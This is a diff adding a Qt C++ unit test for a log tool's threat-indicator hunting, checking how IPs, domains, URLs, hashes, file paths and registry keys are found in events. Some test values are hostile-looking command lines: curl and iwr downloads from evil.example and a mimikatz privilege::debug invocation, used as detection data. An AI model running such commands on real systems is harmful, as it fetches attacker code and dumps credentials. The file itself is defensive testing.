@@ -1,0 +1,231 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+// Which values in events an indicator finds, and what a hunt swears to.
+#include <jupiter/columnar/batch_builder.h>
+#include <jupiter/intel/hunt.h>
+#include <jupiter/intel/import.h>
+#include <jupiter/intel/intel_store.h>
+
+#include <QTemporaryDir>
+#include <QtTest>
+
+using namespace jupiter;
+using intel::Kind;
+
+class HuntTest final : public QObject {
+    Q_OBJECT
+
+    QTemporaryDir m_folder;
+    int m_number = 0;
+
+    struct Cell {
+        const char *field, *value;
+    };
+    /// A store with one event a list of cells.
+    std::unique_ptr<store::EventStore> events(const std::vector<std::vector<Cell>> &rows)
+    {
+        auto store = *store::EventStore::open(m_folder.filePath(QString("e%1.jupiter").arg(++m_number)).toStdString(), store::EventStore::Mode::Create);
+        columnar::BatchBuilder builder;
+        std::int64_t sequence = 0;
+        for (const auto &cells : rows) {
+            builder.beginRow();
+            builder.addTime(builder.field("@timestamp"), {1'700'000'000'000'000'000 + sequence * 1'000'000'000});
+            builder.addText(builder.field("jupiter.source"), std::string(64, 'a'));
+            builder.addText(builder.field("log.file.path"), "x.json");
+            builder.addInteger(builder.field("event.sequence"), sequence++);
+            for (const Cell &cell : cells)
+                builder.addText(builder.field(cell.field), cell.value);
+            builder.endRow();
+        }
+        store::SourceProgress progress;
+        progress.record.sha256 = std::string(64, 'a');
+        progress.record.path = "x.json";
+        progress.record.stored = rows.size();
+        if (auto done = store->append(builder.take(), std::span(&progress, 1)); !done)
+            qFatal("%s", done.error().message.c_str());
+        return store;
+    }
+    static intel::HuntList listOf(std::vector<intel::Value> values)
+    {
+        intel::HuntList list;
+        intel::MatchSet::Builder builder;
+        for (std::size_t i = 0; i < values.size(); ++i)
+            builder.add(values[i], intel::MatchSet::Tag(i));
+        list.set = builder.build();
+        list.valueOf = [values](intel::MatchSet::Tag tag) { return std::optional(values.at(tag)); };
+        return list;
+    }
+    intel::HuntResult huntFor(store::EventStore &store, const intel::HuntList &list, TimeRange range = {})
+    {
+        SimpleJob job;
+        return intel::hunt(*store.snapshot(), list, {range, 1}, job);
+    }
+
+private Q_SLOTS:
+    void anIndicatorIsFoundInWhateverWayTheEventHasIt_data()
+    {
+        QTest::addColumn<QString>("kind");
+        QTest::addColumn<QString>("value");
+        QTest::addColumn<QString>("field");
+        QTest::addColumn<QString>("there");
+        QTest::addColumn<bool>("found");
+        const auto row = [](const char *kind, const char *value, const char *field, const char *there, bool found) {
+            QTest::newRow(qPrintable(QString("%1 %2 in %3 %4").arg(kind, value, field, there))) << kind << value << field << there << found;
+        };
+        row("ipv4-addr", "10.0.0.5", "destination.ip", "10.0.0.5", true);
+        row("ipv4-addr", "10.0.0.5", "destination.ip", "10.0.0.50", false);
+        row("ipv4-addr", "10.0.0.5", "destination.ip", "::ffff:10.0.0.5", true);
+        row("ipv4-addr", "10.0.0.0/24", "source.ip", "10.0.0.77", true);
+        row("ipv4-addr", "10.0.0.0/24", "source.ip", "10.0.1.77", false);
+        row("ipv4-addr", "10.0.0.5", "process.command_line", "ping 10.0.0.5 -n 3", true);
+        row("ipv4-addr", "10.0.0.5", "process.command_line", "connect=10.0.0.5:443;", true);
+        row("ipv4-addr", "10.0.0.5", "process.command_line", "1.10.0.0.5", false);
+        row("ipv4-addr", "10.0.0.5", "url.full", "http://10.0.0.5/x", true);
+        row("ipv4-addr", "10.0.0.5", "some.odd.dst_ip", "10.0.0.5", true);
+        row("ipv6-addr", "2001:db8::1", "source.ip", "2001:DB8:0:0:0:0:0:1", true);
+        row("ipv6-addr", "2001:db8::/32", "source.ip", "2001:db8:1::9", true);
+        row("domain-name", "evil.example", "dns.question.name", "a.b.EVIL.example", true);
+        row("domain-name", "evil.example", "dns.question.name", "notevil.example", false);
+        row("domain-name", "evil.example", "url.full", "https://user@www.evil.example:8443/p?q", true);
+        row("domain-name", "evil.example", "process.command_line", "curl -o x hxxp evil.example/x.ps1", true);
+        row("domain-name", "evil.example", "message", "resolved evil.example.", true);
+        row("url", "http://evil.example/a", "url.full", "HTTP://EVIL.example:80/a", true);
+        row("url", "http://evil.example/a", "url.full", "http://evil.example/b", false);
+        row("url", "http://evil.example", "url.full", "http://evil.example/", true);
+        row("url", "http://evil.example/a?b=c", "process.command_line", "iwr 'http://evil.example/a?b=c' -o x", true);
+        row("email-addr", "m@evil.example", "email.from.address", "M@Evil.example", true);
+        row("email-addr", "m@evil.example", "message", "mail from <m@evil.example>", true);
+        row("file:md5", "d41d8cd98f00b204e9800998ecf8427e", "file.hash.md5", "D41D8CD98F00B204E9800998ECF8427E", true);
+        row("file:md5", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E", true);
+        row("file:imphash", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "MD5=D41D8CD98F00B204E9800998ECF8427E", false);
+        row("file:imphash", "d41d8cd98f00b204e9800998ecf8427e", "winlog.event_data.Hashes", "MD5=0,IMPHASH=D41D8CD98F00B204E9800998ECF8427E", true);
+        row("file:name", "mimikatz.exe", "process.executable", "C:\\Temp\\Mimikatz.EXE", true);
+        row("file:name", "mimikatz.exe", "process.executable", "C:\\Temp\\notmimikatz.exe", false);
+        row("file:name", "mimikatz.exe", "process.command_line", "\"C:\\x\\mimikatz.exe\" privilege::debug", true);
+        row("file:path", "C:\\Temp\\x.exe", "file.path", "c:\\temp\\X.exe", true);
+        row("file:path", "C:\\Temp\\x.exe", "file.path", "c:\\other\\temp\\x.exe", false);
+        row("file:path", "%APPDATA%\\Evil\\x.exe", "file.path", "C:\\Users\\m\\AppData\\Roaming\\Evil\\x.exe", true);
+        row("file:path", "/tmp/.x/y", "process.executable", "/tmp/.x/y", true);
+        row("windows-registry-key", "HKLM\\Software\\Evil", "registry.path", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Evil\\Value", true);
+        row("windows-registry-key", "HKCU\\Software\\Evil", "registry.path", "HKU\\S-1-5-21-1-2-3-500\\Software\\Evil", true);
+        row("windows-registry-key", "HKLM\\Software\\Evil", "registry.path", "HKLM\\Software\\EvilToo", false);
+        row("mutex", "Global\\Evil", "winlog.event_data.MutexName", "Global\\Evil", true);
+        row("user-agent", "Evil/1.0", "user_agent.original", "Evil/1.0", true);
+        row("ja3", "d41d8cd98f00b204e9800998ecf8427e", "tls.client.ja3", "d41d8cd98f00b204e9800998ecf8427e", true);
+        row("ja3", "d41d8cd98f00b204e9800998ecf8427e", "file.hash.md5", "d41d8cd98f00b204e9800998ecf8427e", false);
+        row("vulnerability", "CVE-2017-0144", "message", "exploits cve-2017-0144 here", true);
+    }
+    void anIndicatorIsFoundInWhateverWayTheEventHasIt()
+    {
+        QFETCH(QString, kind);
+        QFETCH(QString, value);
+        QFETCH(QString, field);
+        QFETCH(QString, there);
+        QFETCH(bool, found);
+        const QByteArray fieldName = field.toUtf8(), content = there.toUtf8();
+        const auto store = events({{{"message", "nothing here"}}, {{fieldName.constData(), content.constData()}}});
+        const auto list = listOf({{*intel::kindFromName(kind.toStdString()), value.toStdString()}, {Kind::Domain, "other.example"}});
+        const intel::HuntResult result = huntFor(*store, list);
+        QCOMPARE(result.hits.empty(), !found);
+        QCOMPARE(result.receipt.hit, found ? 1u : 0u);
+        QCOMPARE(result.receipt.events, 2u);
+        if (found) {
+            QCOMPARE(result.hits.front().count, 1u);
+            QCOMPARE(result.hits.front().events.front().id, std::string(16, 'a') + ":1");
+        }
+    }
+
+    void aHitIsNamedByTheFieldThatPeopleKnow()
+    {
+        const auto store = events({{{"winlog.channel", "Microsoft-Windows-Sysmon/Operational"}, {"event.code", "3"}, {"winlog.event_data.DestinationIp", "10.0.0.5"}},
+                                   {{"winlog.channel", "Microsoft-Windows-Sysmon/Operational"}, {"event.code", "3"}, {"winlog.event_data.SourceIp", "10.0.0.5"}}});
+        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.0.0.5"}}));
+        QCOMPARE(result.hits.size(), 2u);
+        QCOMPARE(result.hits[0].field, std::string("destination.ip"));
+        QCOMPARE(result.hits[1].field, std::string("source.ip"));
+        QCOMPARE(result.receipt.hit, 1u); // one indicator, two fields
+    }
+
+    void onlyTheTimeAskedForIsSearched()
+    {
+        const auto store = events({{{"source.ip", "10.0.0.5"}}, {{"source.ip", "10.0.0.5"}}, {{"source.ip", "10.0.0.5"}}});
+        const std::int64_t begin = 1'700'000'000'000'000'000, second = 1'000'000'000;
+        const auto list = listOf({{Kind::Ipv4, "10.0.0.5"}});
+        const intel::HuntResult result = huntFor(*store, list, {{begin + second}, {begin + 2 * second}});
+        QCOMPARE(result.receipt.events, 1u);
+        QCOMPARE(result.hits.front().count, 1u);
+        QCOMPARE(huntFor(*store, list, {{begin + 10 * second}, {begin + 20 * second}}).receipt.events, 0u);
+    }
+
+    void theReceiptSaysWhatWasNotLookedAt()
+    {
+        const auto store = events({{{"source.ip", "10.0.0.1"}, {"odd.field", "x"}}});
+        const intel::HuntResult result = huntFor(*store, listOf({{Kind::Ipv4, "10.0.0.5"}, {Kind::Ja3, std::string(32, 'a')}, {Kind::Text, "x"}, {Kind::Yara, "rule"}}));
+        QCOMPARE(result.receipt.lookedFor, 2u);
+        QCOMPARE(result.receipt.notMatchable, 2u);
+        QCOMPARE(result.receipt.fields, std::vector<std::string>{"source.ip"});
+        QStringList what;
+        for (const intel::NotCovered &one : result.receipt.notCovered)
+            what << QString::fromStdString(one.what);
+        QVERIFY(what.contains("ja3"));
+        QVERIFY(what.join(' ').contains("odd.field"));
+        QVERIFY(what.join(' ').contains("2 indicators of kinds"));
+    }
+
+    void overlappingNetworksAreAllFound()
+    {
+        const auto store = events({{{"source.ip", "10.1.2.3"}}});
+        const auto list = listOf({{Kind::Ipv4, "10.0.0.0/8"}, {Kind::Ipv4, "10.1.0.0/16"}, {Kind::Ipv4, "10.1.2.3"}, {Kind::Ipv4, "10.1.3.0/24"}, {Kind::Ipv4, "0.0.0.0/0"}});
+        QCOMPARE(huntFor(*store, list).receipt.hit, 4u);
+    }
+
+    void theSetOfAStoreIsKeptUntilSomethingChanges()
+    {
+        SimpleJob job;
+        const QString folder = m_folder.filePath("kept.jupiter");
+        auto store = *intel::IntelStore::open(folder.toStdString(), intel::IntelStore::Mode::Create);
+        QVERIFY(intel::importBytes(*store, "a", "evil.com\n10.0.0.5\nno kind here\n", "", job));
+        const Timestamp now = timestampNow();
+        QCOMPARE(intel::MatchSet::load(*store, now)->lookedFor(), 2u);
+        QVERIFY(!store->keptMatchSet(now)->empty());
+        const auto kept = intel::MatchSet::load(*store, now);
+        QCOMPARE(kept->lookedFor(), 2u);
+        QCOMPARE(kept->notMatchable(), 1u);
+        QVERIFY(intel::importBytes(*store, "b", "worse.com\n", "", job));
+        QVERIFY(store->keptMatchSet(now)->empty());
+        QCOMPARE(intel::MatchSet::load(*store, now)->lookedFor(), 3u);
+        QVERIFY(store->saveException({"evil.com", "ours", {}}));
+        QCOMPARE(intel::MatchSet::load(*store, now)->lookedFor(), 2u);
+        QVERIFY(store->dropException("evil.com"));
+        QCOMPARE(intel::MatchSet::load(*store, now)->lookedFor(), 3u);
+    }
+
+    void aKeptSetThatIsDamagedIsBuiltAgain()
+    {
+        intel::MatchSet::Builder builder;
+        builder.add({Kind::Domain, "evil.com"}, 1);
+        builder.add({Kind::Ipv4, "10.0.0.0/8"}, 2);
+        const std::string bytes = builder.build().serialise();
+        QVERIFY(intel::MatchSet::deserialise(bytes));
+        for (std::size_t size = 0; size < bytes.size(); ++size)
+            QVERIFY(!intel::MatchSet::deserialise(std::string_view(bytes).substr(0, size)));
+        QVERIFY(!intel::MatchSet::deserialise(bytes + "x"));
+    }
+
+    void everyOneOfManyIsFoundAndNoOther()
+    {
+        std::vector<intel::Value> values;
+        std::vector<std::string> texts;
+        for (int i = 0; i < 20'000; ++i)
+            values.push_back({Kind::Domain, "d" + std::to_string(i * 7919) + ".example"});
+        std::vector<std::vector<Cell>> rows;
+        for (int i = 0; i < 2000; ++i)
+            texts.push_back("d" + std::to_string(i * 7919 + i % 2) + ".example"); // every other one is a stranger
+        for (const std::string &text : texts)
+            rows.push_back({{"dns.question.name", text.c_str()}});
+        const auto store = events(rows);
+        QCOMPARE(huntFor(*store, listOf(values)).receipt.hit, 1000u);
+    }
+};
+
+QTEST_GUILESS_MAIN(HuntTest)
+#include "hunt_test.moc"
